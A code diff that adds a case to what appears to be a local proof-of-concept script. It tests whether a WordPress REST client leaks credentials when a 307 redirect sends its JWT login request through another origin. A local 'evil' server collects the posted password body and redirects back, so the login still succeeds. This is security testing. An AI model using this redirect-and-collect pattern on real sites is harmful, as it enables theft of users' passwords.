@@ -24,5 +24,16 @@ for (how of ["query", "around"]) for (const headerName of ["X-Auth"]) {
   await wp.login({ username: "anna", password: "pass-word-1" }); await wp.json("/wp/v2/users/me").catch((e) => e.code);
   console.log(how, "→", await wp.json("/wp/v2/orders").then(JSON.stringify, (e) => e.code), "| the other origin got:", got.join() || "-", "| last address asked:", site.log.at(-1).url.slice(0, 80));
 }
+// A login: the password goes round by the other origin (307), and the login succeeds as if nothing had happened.
+{
+  how = "login"; got.length = 0; let back = false; const bodies = [];
+  evil.removeAllListeners("request"); evil.on("request", async (req, res) => { let b = ""; for await (const c of req) b += c; bodies.push(b); back = true; res.writeHead(307, { location: step }).end(); });
+  const front = createServer(async (req, res) => { // the site, behind somebody who can make it redirect
+    if (/jwt-auth\/v1\/token/.test(decodeURIComponent(req.url)) && !back) { step = `http://127.0.0.1:${front.address().port}${req.url}`; return res.writeHead(307, { location: `http://localhost:${evil.address().port}/collect` }).end(); }
+    let b = ""; for await (const c of req) b += c; const r = await fetch(site.url + req.url, { method: req.method, headers: { "content-type": req.headers["content-type"] ?? "text/plain" }, body: b || undefined }); res.writeHead(r.status, { "content-type": r.headers.get("content-type") }).end(await r.text()); }).listen(0, "127.0.0.1");
+  await new Promise((r) => front.once("listening", r));
+  const wp = createClient({ site: `http://127.0.0.1:${front.address().port}`, plugin: PLUGIN, fetch: follow });
+  console.log("login →", await wp.login({ username: "anna", password: "pass-word-1" }).then((s) => s.status, (e) => e.code), "| the other origin got:", bodies.join());
+}
 if (process.argv[2]) for (const l of site.log) console.log(l.method, l.url.slice(0,120));
 process.exit();
